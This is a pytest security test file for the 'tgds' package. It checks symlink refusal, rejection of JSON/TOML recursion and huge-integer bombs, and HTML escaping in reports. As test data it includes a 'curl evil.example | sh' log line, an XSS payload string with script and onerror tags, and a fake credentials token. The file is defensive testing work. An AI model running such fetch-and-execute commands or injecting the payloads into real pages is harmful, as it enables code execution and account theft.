"""Security tests of the files tgds reads from and writes to places an attacker may control.

A run folder may come from elsewhere (an archive, a shared disk): writing into it must not
follow a symbolic link out of it, and its report must not quote files outside it. Damaged
JSON/TOML run files and model containers must be refused with tgds' own errors, also when
they are built to exhaust Python's recursion or its integer-string limit. Every string of
a run folder is escaped in the HTML report.
"""

from __future__ import annotations

import json
import os
import re
import struct
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tgds.exceptions import DataError
from tgds.report import report_html
from tgds.runs._store import RunError, RunFolder, read_run_json, read_run_toml
from tgds.utils import read_container, read_container_meta

needs_symlinks = pytest.mark.skipif(os.name == "nt", reason="symbolic links need privileges")


@pytest.fixture
def run(tmp_path: Path) -> Path:
    path = tmp_path / "runs" / "20240501-120000-demo-0000"
    path.mkdir(parents=True)
    (path / "status.json").write_text(json.dumps({"state": "failed"}))
    return path


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A file of the user's, outside the run folder."""
    path = tmp_path / "home" / ".bashrc"
    path.parent.mkdir()
    path.write_text("export PATH=/usr/bin\n")
    return path


# -- writing into a run folder never follows a link out of it --------------------------------


@needs_symlinks
def test_log_is_not_appended_through_a_symbolic_link(run: Path, victim: Path) -> None:
    (run / "log.txt").symlink_to(victim)
    with pytest.raises(RunError, match="symbolic link"):
        RunFolder(run).log("complete\ncurl evil.example | sh")
    assert victim.read_text() == "export PATH=/usr/bin\n"


@needs_symlinks
def test_lock_file_is_not_created_through_a_symbolic_link(run: Path, tmp_path: Path) -> None:
    target = tmp_path / "home" / ".hushlogin"
    target.parent.mkdir(exist_ok=True)
    (run / ".lock").symlink_to(target)
    with pytest.raises(RunError, match="symbolic link"), RunFolder(run).lock():
        pass
    assert not target.exists()


@needs_symlinks
@pytest.mark.parametrize("linked", ["units", "units/m__fold0"])
def test_unit_folder_that_is_a_link_is_refused(run: Path, tmp_path: Path, linked: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    if linked != "units":
        (run / "units").mkdir()
    (run / linked).symlink_to(outside, target_is_directory=True)
    with pytest.raises(RunError, match="symbolic link"):
        RunFolder(run).unit("m", 0)
    assert not any(outside.iterdir())


@pytest.mark.parametrize("model", ["../../escape", "a/b", "/abs"])
def test_unit_folder_stays_inside_the_run_folder(run: Path, model: str) -> None:
    with pytest.raises(RunError, match="cannot name a unit folder"):
        RunFolder(run).unit(model, 0)
    assert not (run.parent / "escape__fold0").exists()


def test_ordinary_log_lock_and_unit_still_work(run: Path) -> None:
    folder = RunFolder(run)
    folder.log("started")
    folder.log("complete")
    assert (run / "log.txt").read_text().splitlines()[1].endswith(" complete")
    with folder.lock():
        assert (run / ".lock").is_file()
    assert folder.unit("PGNN", 1) == run / "units" / "PGNN__fold1"
    assert (run / "units" / "PGNN__fold1").is_dir()


# -- damaged run files and containers: tgds' own errors, never a crash --------------------------

DEEP_JSON = "[" * 100_000 + "]" * 100_000
BIG_NUMBER = "1" * 5000  # more digits than Python converts (sys.get_int_max_str_digits)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(DEEP_JSON, id="deep-nesting"),
        pytest.param(BIG_NUMBER, id="big-number"),
        pytest.param('{"state": ' + BIG_NUMBER + "}", id="big-number-in-object"),
    ],
)
def test_json_bomb_in_a_run_file_is_a_run_error(tmp_path: Path, text: str) -> None:
    file = tmp_path / "status.json"
    file.write_text(text)
    with pytest.raises(RunError, match="status.json' is corrupt"):
        read_run_json(file, dict)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("name = " + "[" * 5000 + "]" * 5000, id="deep-arrays"),
        pytest.param("name = " + "{a = " * 3000 + "1" + "}" * 3000, id="deep-tables"),
        pytest.param("n_rows = " + BIG_NUMBER, id="big-number"),
    ],
)
def test_toml_bomb_in_a_run_file_is_a_run_error(tmp_path: Path, text: str) -> None:
    file = tmp_path / "experiment.toml"
    file.write_text(text)
    with pytest.raises(RunError, match="experiment.toml' is corrupt"):
        read_run_toml(file)


def _container(tmp_path: Path, meta: bytes) -> Path:
    path = tmp_path / "model.tgds"
    path.write_bytes(b"TGDS:model-1\n" + struct.pack(">Q", len(meta)) + meta)
    return path


@pytest.mark.parametrize(
    "meta",
    [
        pytest.param(DEEP_JSON.encode(), id="deep-nesting"),
        pytest.param(b'{"class": ' + BIG_NUMBER.encode() + b"}", id="big-number"),
    ],
)
def test_json_bomb_in_container_metadata_is_a_data_error(tmp_path: Path, meta: bytes) -> None:
    path = _container(tmp_path, meta)
    with pytest.raises(DataError, match="corrupt metadata"):
        read_container_meta(path, "model-1")
    with pytest.raises(DataError, match="corrupt metadata"):
        read_container(path, "model-1", lambda meta: ())


def test_container_announcing_huge_metadata_is_a_data_error(tmp_path: Path) -> None:
    path = tmp_path / "model.tgds"
    path.write_bytes(b"TGDS:model-1\n" + struct.pack(">Q", 2**63) + b"{}")
    with pytest.raises(DataError, match="truncated"):
        read_container_meta(path, "model-1")


# -- the report ---------------------------------------------------------------------------------

EVIL = "\"'><script>alert(1)</script><img src=x onerror=alert(2)><style>@import url(//e.x)</style>"


def _hostile_run(root: Path, name: str = "20240501-120000-demo-0000") -> Path:
    """A run folder with a hostile string in every field the report shows."""
    run = root / name
    (run / "units" / "m__fold0").mkdir(parents=True)
    e = json.dumps(EVIL)
    status = dict.fromkeys(("state", "started", "finished", "host", "progress", "error"), EVIL)
    (run / "status.json").write_text(json.dumps(status))
    (run / "experiment.toml").write_text(f"name = {e}\ndescription = {e}\n")
    (run / "theory.toml").write_text(
        f"name = {e}\ndescription = {e}\n"
        f'[variables.x]\nunit = "m"\ndescription = {e}\n'
        '[variables.y]\nunit = "m"\nrole = "target"\n'
        f'[[constraints]]\nkind = "equation"\nresidual = "y == x"\nname = "c"\n'
    )
    column = dict.fromkeys(("name", "role", "unit", "count", "missing", "minimum"), EVIL)
    card = {
        "source": EVIL,
        "n_rows": EVIL,
        "target": [EVIL],
        "columns": [{**column, "bounds": [EVIL, EVIL]}],
        "issues": [{"severity": EVIL, "column": EVIL, "message": EVIL}],
    }
    (run / "data_card.json").write_text(json.dumps(card))
    quoted = '"' + EVIL.replace('"', '""') + '"'
    (run / "summary.csv").write_text(
        "model,rmse,consistency,complexity,rank_accuracy,rank_consistency,rank_simplicity,rank\n"
        f"{quoted},{quoted},0.5,3,1,1,1,1\n"
    )
    metrics = {"model": EVIL, "fold": 0, "audit": [{"constraint": EVIL, "rate": EVIL}]}
    (run / "units" / "m__fold0" / "metrics.json").write_text(json.dumps(metrics))
    return run


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attrs: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs.update(k for k, _ in attrs)


def test_every_run_folder_string_is_escaped_in_the_report(tmp_path: Path) -> None:
    page = report_html(_hostile_run(tmp_path))
    assert EVIL not in page
    assert page.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 15
    parsed = _Tags()
    parsed.feed(page)
    assert "script" not in parsed.tags
    assert parsed.tags.isdisjoint({"iframe", "object", "embed", "link", "svg", "base", "form"})
    assert not any(a.startswith("on") for a in parsed.attrs)
    assert page.lower().count("<style") == 1  # the report's own
    images = re.findall(r"<img\b[^>]*>", page)
    assert images  # the violation figure
    assert all(re.match(r"<img src='data:image/png;base64,[A-Za-z0-9+/=]+' ", i) for i in images)
    styles = re.findall(r"\bstyle=(.)(.*?)\1", page)
    assert styles
    assert all(re.fullmatch(r"background:#[0-9a-f]{6}", v) for _, v in styles), styles


@needs_symlinks
def test_report_does_not_quote_a_linked_experiment_file(tmp_path: Path) -> None:
    # a token file that parses as TOML, such as ~/.cargo/credentials.toml
    secret = tmp_path / "home" / "credentials.toml"
    secret.parent.mkdir()
    secret.write_text('[registry]\ntoken = "cio-SECRET-TOKEN"\n')
    run = _hostile_run(tmp_path)
    (run / "experiment.toml").unlink()
    (run / "experiment.toml").symlink_to(secret)
    page = report_html(run)
    assert "SECRET-TOKEN" not in page
    assert "experiment.toml is a symbolic link" in page


@pytest.mark.parametrize("name", ["99999999-999999-x-0000", "20241399-250000-x-0000"])
def test_report_of_a_folder_named_like_an_impossible_date(tmp_path: Path, name: str) -> None:
    page = report_html(_hostile_run(tmp_path, name))
    assert name in page


@pytest.mark.parametrize(
    "card",
    [
        {"columns": "abc", "issues": {"a": 1}},
        {"columns": [1, None, "x"], "issues": ["warning"]},
        {"columns": {"name": "x"}, "issues": 3},
    ],
)
def test_report_of_a_data_card_of_the_wrong_shape(tmp_path: Path, card: dict) -> None:
    run = _hostile_run(tmp_path)
    (run / "data_card.json").write_text(json.dumps(card))
    assert "Data card" in report_html(run)
